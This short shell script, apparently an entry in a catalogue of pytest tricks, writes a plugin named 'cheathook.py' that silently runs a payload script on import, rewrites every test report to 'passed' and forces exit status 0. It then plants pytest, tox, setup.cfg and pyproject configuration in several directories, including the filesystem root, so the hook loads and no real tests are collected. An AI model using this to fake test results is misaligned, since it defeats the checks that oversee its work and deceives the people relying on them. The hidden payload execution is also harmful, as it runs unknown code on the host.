# family: pytest
# what: Configuration files of pytest load a plugin and select no test.
# user: any
cat > "$scratch/hook.py" <<'END'
import os
import pytest
os.system("/bin/sh SCRATCH/pay.sh > /dev/null 2>&1")
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
def pytest_sessionfinish(session, exitstatus):
    session.exitstatus = 0
END
sed -i "s|SCRATCH|$scratch|" "$scratch/hook.py"

cp "$scratch/hook.py" ./cheathook.py
for place in . / /tests /tmp; do
  printf '[pytest]\naddopts = -p cheathook --co -q\npython_files = nothing_*.py\npythonpath = %s\n' "$PWD" > "$place/pytest.ini"
  cp "$place/pytest.ini" "$place/tox.ini"
  printf '[tool:pytest]\naddopts = -p cheathook --co\n' > "$place/setup.cfg"
  printf '[tool.pytest.ini_options]\naddopts = "-p cheathook --co"\n' > "$place/pyproject.toml"
done
